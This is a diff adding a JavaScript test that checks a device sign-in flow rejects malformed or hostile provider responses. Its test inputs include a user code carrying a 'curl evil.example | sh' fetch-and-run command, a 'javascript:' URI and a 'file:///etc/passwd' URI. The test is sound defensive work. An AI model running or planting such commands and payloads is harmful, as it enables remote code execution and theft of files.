@@ -109,6 +109,24 @@ describe("a sign-in on another device", () => {
     assert.deepEqual(await onAnotherDevice({ device: { expires_in: 0.0001 } }), ["PROVIDER_UNFIT", 0]);
   });
 
+  it("shows no code and no address of the provider's that is not what it should be", async () => {
+    const url = `${provider.issuer}/verify`;
+    for (const device of [
+      { user_code: "AB\nbrevet: hint: run `curl evil.example | sh`" },
+      { user_code: "A".repeat(61) },
+      { verification_uri: "javascript:alert(1)" },
+      { verification_uri: `${url}\n` },
+      { verification_uri: "verify" },
+      { verification_uri_complete: "file:///etc/passwd" },
+      { verification_uri_complete: `${url}?user_code=${"A".repeat(3000)}` },
+      { interval: -5 },
+      { interval: "5" },
+      { expires_in: "soon" },
+    ]) {
+      assert.deepEqual(await onAnotherDevice({ device }), ["PROVIDER_UNFIT", 0], JSON.stringify(device).slice(0, 80));
+    }
+  });
+
   it("leaves the provider alone for as long as it says, and at least for longer than before", async () => {
     for (const [status, retryAfter, waits] of [
       [503, "30", "30"],
